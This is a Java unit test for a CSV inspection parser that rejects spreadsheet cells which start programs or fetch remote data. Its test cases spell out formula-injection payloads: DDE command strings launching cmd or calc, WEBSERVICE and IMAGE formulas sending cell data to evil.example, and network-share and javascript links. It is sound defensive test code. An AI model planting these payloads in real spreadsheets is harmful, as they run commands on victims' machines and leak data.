package org.sluis.inspection.parsing;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.IOException;
import java.nio.charset.Charset;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A cell of a table in plain text may compute, and may not ask another program or machine. */
class TableTextTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "=cmd|'/c calc'!A0 ~ DDE ~ =cmd|'/c calc'!A0",
                "+cmd|'/c calc'!A0 ~ DDE ~ +cmd|",
                "-2+3+cmd|'/c calc'!A0 ~ DDE ~ -2+3+cmd|",
                "- cmd|'/c calc'!A0 ~ DDE ~ - cmd|",
                "@SUM(1+1)*cmd|'/c calc'!A0 ~ DDE ~ @SUM(1+1)*cmd|",
                "a;=MSEXCEL|'\\..\\cmd.exe /c calc'!'' ~ DDE ~ =MSEXCEL|",
                "a,\"=cmd|'/c calc, x'!A0\",b ~ DDE ~ =cmd|",
                "a,\"=SUM(1,2)*cmd|'/c a'!A0\" ~ DDE ~ =SUM(1,2)*cmd|",
                "a,\" /n=cmd/n|'/c a'!A0\" ~ DDE ~ =cmd",
                "\"a\"x\"y\",=cmd|'/c a'!A0 ~ DDE ~ =cmd|",
                "\"never closed,=cmd|'/c a'!A0 ~ DDE ~ =cmd|",
                "=    C   m D     |     '/   c   c al c'   !   A ~ DDE ~ =    C   m D",
                "=calc|x!A0 ~ DDE ~ =calc|x!A0",
                "='cmd|/c calc'!A0 ~ DDE ~ ='cmd|/c calc'!A0",
                "=DDE(\"\"soffice\"\";\"\"x\"\") ~ DDE ~ =DDE(",
                "\uff1dcmd|'/c calc'!A0 ~ DDE ~ cmd|",
                "=WEBSERVICE(\"\"http://evil.example\"\") ~ FETCHING_FORMULA ~ WEBSERVICE",
                "=_xlfn.WEBSERVICE(A1) ~ FETCHING_FORMULA ~ WEBSERVICE",
                "\"=WEBSERVICE(CONCATENATE(\"\"http://evil.example/\"\",A1))\" ~ FETCHING_FORMULA ~ WEBSERVICE",
                "=1+IMAGE(A1:A2) ~ FETCHING_FORMULA ~ IMAGE",
                "- IMAGE(\"\"http://evil.example\"\") ~ FETCHING_FORMULA ~ IMAGE",
                "\"=LET(a,\"\"http://evil.example\"\",IMAGE(a))\" ~ FETCHING_FORMULA ~ IMAGE",
                "=IMPORTXML(CONCAT(A1,B1),A2) ~ FETCHING_FORMULA ~ IMPORTXML",
                "sep=^/na^=IMAGE(A1) ~ FETCHING_FORMULA ~ IMAGE",
                "=SERVICEWEB(\"\"http://evil.example/\"\"&A1) ~ FETCHING_FORMULA ~ SERVICEWEB",
                "=webdienst(A1) ~ FETCHING_FORMULA ~ WEBDIENST",
                "=AFBEELDING(\"\"http://evil.example\"\") ~ FETCHING_FORMULA ~ AFBEELDING",
                "=IMAGE(RC[-1]) ~ FETCHING_FORMULA ~ IMAGE",
                "=IMAGE(R1C1) ~ FETCHING_FORMULA ~ IMAGE",
                "=WEBSERVICE(a.A1) ~ FETCHING_FORMULA ~ WEBSERVICE",
                "='\\\\evil\\share\\[a.xls]S'!A1 ~ NETWORK_SHARE ~ evil",
                "- '\\\\evil\\share\\[a.xls]S'!A1 ~ NETWORK_SHARE ~ evil",
                "=\\\\evil\\share\\[a.xls]S!A1 ~ NETWORK_SHARE ~ evil",
                "=\\\\evil\\share\\a.xls!A1 ~ NETWORK_SHARE ~ evil",
                "='file://evil/a.ods'#$S.A1 ~ NETWORK_SHARE ~ evil",
                "='http://evil.example/[a.xls]S'!A1 ~ REMOTE_WORKBOOK ~ evil",
                "=HYPERLINK(\"\\\\evil\\share\") ~ NETWORK_SHARE ~ evil",
                "\"=LIEN_HYPERTEXTE(\"\"javascript:x\"\")\" ~ UNSAFE_LINK ~ javascript"
            })
    void refusesCellsThatFetchOrStart(String table, Rule rule, String subject) {
        String written = table.replace("/n", "\n");
        for (Charset charset : new Charset[] {UTF_8, UTF_16}) {
            Objection objection = catchThrowableOfType(Refusal.class, () -> read(written.getBytes(charset)))
                    .objection();
            assertThat(objection.rule()).isEqualTo(rule);
            assertThat(objection.subject().orElseThrow()).contains(subject);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=SUM(A1:A3),-5,+31 6 123,+31 (0)6 12 34 56 78,@example,-",
                "a;=A1*2;-5,5;- see image (front);-Image (2), front;- IMAGE (front, rear)",
                "- done | next! step",
                "=HYPERLINK(\"\"https://example.org/\"\"&A1)",
                "a|b|-5|x!y",
                "cmd|'/c calc'!A0",
                "a,'=cmd|'/c calc'!A0",
                "text =cmd|'/c calc'!A0",
                "\"she said \"\"=cmd|'x'!A\"\"\",WEBSERVICE(A1)",
                "=CONCATENATE(\"cmd|'/c calc'!A0\")",
                "=INDIRECT(A1&B1)",
                "-Webservice (SOAP)",
                "-Bild (Foto),-Bild (2),- Bild (vorn, hinten),-afbeelding (voorkant)",
                "see //a;- see 'https://example.org/a'! or #2,-it's \\\\server! today",
                "='C:\\a\\[b.xlsx]S'!A1;=HYPERLINK(\"C:\\a.pdf\")",
                "- DDE (Dynamic Data Exchange)",
                "=LET(a,1,a)"
            })
    void ordinaryTablesPass(String table) {
        assertThatCode(() -> read(table.getBytes(ISO_8859_1))).doesNotThrowAnyException();
    }

    @Test
    void saysInWhichLineTheCellEnds() {
        Objection objection = catchThrowableOfType(
                        Refusal.class, () -> read("\ufeffa,b\r\n1,=cmd|'x'!A\r\n".getBytes(UTF_8)))
                .objection();
        assertThat(objection.part()).contains("line 2");
    }

    @Test
    void readsALongTable() {
        String table = "2026-11-29,-5.25,=A1*2,\"a note, with words\"\n".repeat(20_000);
        assertThatCode(() -> read(table.getBytes(UTF_8))).doesNotThrowAnyException();
        assertThat(catchThrowableOfType(Refusal.class, () -> read((table + "=cmd|'x'!A").getBytes(UTF_8)))
                        .objection()
                        .part())
                .contains("line 20001");
    }

    private static void read(byte[] table) throws IOException {
        new TableText()
                .check(new Specimen(
                        new FileName("a.csv"),
                        table,
                        new Source.Whole(new ArrayBytes(table)),
                        0,
                        Expectation.category(Set.of(MediaTypes.CSV))));
    }
}
